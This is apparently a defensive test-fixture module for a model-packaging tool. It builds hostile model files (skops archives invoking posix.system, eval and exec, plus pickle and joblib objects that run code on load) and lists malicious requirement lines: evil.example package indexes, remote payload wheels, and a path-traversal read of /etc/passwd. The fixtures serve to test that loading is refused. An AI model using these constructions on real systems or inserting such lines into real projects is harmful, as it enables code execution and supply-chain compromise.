"""Hostile files, in one place: model files that run code as they load, and bundles that reach outside themselves.

Each model file creates ``marker`` if anything loads it, as an attacker's payload would run theirs. The same
files go through every entry point that reads a model (tests/test_hostile_models.py); the bundles with hostile
requirements and paths go through ``ferry containerize`` and ``ferry verify`` (tests/test_bundle_containment.py).
"""

from __future__ import annotations

import hashlib
import io
import json
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import yaml


@dataclass(frozen=True)
class HostileModel:
    """A model file's bytes, and the callable its refusal must name (what would have run)."""

    data: bytes
    calls: str


def skops_calling(function: str, argument: str) -> bytes:
    """A hand-made skops zip whose one object is ``function(argument)``: skops calls it once the type is trusted."""
    module, _, name = function.rpartition(".")
    argument_node = {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(argument),
        "is_json": True,
        "__id__": 2,
    }
    schema = {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [argument_node],
            "__id__": 3,
        },
        "__id__": 1,
        "protocol": 2,
        "_skops_version": "0.16.0",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    return buffer.getvalue()


class WritesMarker:
    """Unpickling this calls ``open(marker, "w")``: the pickle holds that call, not this class."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (str(self.marker), "w"))


def _joblib(marker: Path) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(WritesMarker(marker), buffer)
    return buffer.getvalue()


# Every hostile model file, by name: each makes its bytes for a marker path.
HOSTILE_MODELS: dict[str, Callable[[Path], HostileModel]] = {
    "skops-posix.system": lambda marker: HostileModel(skops_calling("posix.system", f"touch {marker}"), "posix.system"),
    "skops-builtins.eval": lambda marker: HostileModel(
        skops_calling("builtins.eval", f"open({str(marker)!r}, 'w')"), "builtins.eval"
    ),
    "skops-builtins.exec": lambda marker: HostileModel(
        skops_calling("builtins.exec", f"open({str(marker)!r}, 'w')"), "builtins.exec"
    ),
    "pickle": lambda marker: HostileModel(pickle.dumps(WritesMarker(marker), protocol=5), "io.open"),
    "joblib": lambda marker: HostileModel(_joblib(marker), "io.open"),
}


def mlflow_folder(folder: Path, model: bytes, file_name: str) -> Path:
    """A folder as ``mlflow.sklearn.save_model`` writes it, holding ``model`` as its model file."""
    folder.mkdir(parents=True)
    (folder / file_name).write_bytes(model)
    signature = {"inputs": json.dumps([{"type": "double", "name": "x"}, {"type": "double", "name": "y"}])}
    flavor = {"pickled_model": file_name, "serialization_format": "skops", "sklearn_version": "1.5.0"}
    mlmodel = {"flavors": {"sklearn": flavor}, "signature": signature}
    (folder / "MLmodel").write_text(yaml.safe_dump(mlmodel))
    return folder


def mlserver_repository(folder: Path, model: bytes, file_name: str = "model.joblib") -> Path:
    """An MLServer repository of one SKLearn model folder (``evil``, version 1) holding ``model``."""
    (folder / "evil").mkdir(parents=True)
    (folder / "evil" / file_name).write_bytes(model)
    settings = {
        "name": "evil",
        "implementation": "mlserver_sklearn.SKLearnModel",
        "parameters": {"uri": f"./{file_name}", "version": "1"},
    }
    (folder / "evil" / "model-settings.json").write_text(json.dumps(settings))
    return folder


def plant_artifact(bundle: Path, name: str, data: bytes) -> None:
    """Put ``data`` in a built bundle as its model file ``name``, listed with its true hash, as a tamperer would."""
    (bundle / name).write_bytes(data)
    edit_manifest(bundle, lambda raw: raw["artifacts"].__setitem__(name, hashlib.sha256(data).hexdigest()))
    edit_manifest(bundle, lambda raw: raw["options"].update(artifact=name))


def edit_manifest(bundle: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    """Change a bundle's ``ferry.yaml`` by hand (its JSON twin no longer matches, so the YAML is read)."""
    path = bundle / "ferry.yaml"
    raw: dict[str, Any] = yaml.safe_load(path.read_text())
    raw.setdefault("options", {}).pop(
        "compiled", None
    )  # a hostile manifest leaves out the compiled form, so the original loads
    change(raw)
    path.write_text(yaml.safe_dump(raw, sort_keys=False))


# Requirement lines that are no package specifier: each changes where the image's packages come from, or reads
# a file of the host. `ferry containerize` refuses them unless the operator passes --allow-requirement-options.
HOSTILE_REQUIREMENTS = [
    "--index-url http://evil.example/simple",
    "--extra-index-url http://evil.example/simple",
    "-i http://evil.example/simple",
    "-e git+https://evil.example/payload.git#egg=payload",
    "https://evil.example/payload-1.0-py3-none-any.whl",
    "payload @ https://evil.example/payload-1.0-py3-none-any.whl",
    "-r ../../../../../etc/passwd",
    "./payload",
]
